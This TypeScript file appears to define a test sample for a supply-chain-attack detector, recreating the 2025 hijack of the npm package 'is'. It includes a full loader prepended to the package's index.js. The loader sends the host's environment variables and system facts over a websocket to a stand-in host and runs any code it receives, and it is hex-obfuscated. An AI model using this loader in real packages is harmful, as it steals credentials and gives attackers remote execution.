import { defineAttack } from "../attack.ts";
import { contentOf, smallLibrary } from "../bases.ts";
import { commonScript } from "../guard.ts";
import { hideInTable, oneLine } from "../hiding.ts";
import type { LineChange } from "../publishing-ways.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

const honest = smallLibrary("is");

/**
 * is 3.3.1 and 5.0.0, 19 July 2025: the same phishing as eslint-config-prettier. Silent for 2,408 days, then a loader in
 * JavaScript at import: host facts and environment over a socket, and whatever comes back is run.
 */
export const is2025: Sample = defineAttack({
  id: "is-2025",
  title: "A package silent for six years opens a socket and runs what it is sent",
  group: "takeover",
  trigger: "import",
  judged: [
    { name: "is", version: "3.3.1" },
    { name: "is", version: "5.0.0" },
  ],
  now: "2025-07-19T15:00:00Z",
  createLines: () => [
    {
      name: "is",
      files: honest,
      publisher: person("enrico-marino"),
      releases: [
        ["3.2.1", "2017-02-27T10:00:00Z"],
        ["3.3.0", "2018-12-14T10:00:00Z"],
        ["3.3.1", "2025-07-19T14:40:00Z", armed()],
        ["5.0.0", "2025-07-19T14:52:00Z", armed()],
      ],
    },
  ],
});

function armed(): LineChange {
  return {
    publisher: person("old-owner", "old-owner@mail.invalid"),
    hasCommit: false,
    files: [{ path: "index.js", content: `${loader}${contentOf(honest, "index.js")}` }],
  };
}

const loader = hideInTable(
  oneLine(
    commonScript(String.raw`
const os = require("os");
const facts = { host: os.hostname(), system: os.platform() + os.release(), cpus: os.cpus(), env: process.env };
const Socket = require("ws");
function connect() {
  const socket = new Socket("wss://cdn.loader.invalid/ws");
  socket.on("open", () => { socket.send(JSON.stringify(facts)); });
  socket.on("message", (data) => { const run = new Function("require", "socket", data.toString()); run(require, socket); });
  socket.on("close", () => { setTimeout(connect, 5000); });
  socket.on("error", () => {});
}
connect();
`),
  ),
  "hex",
);
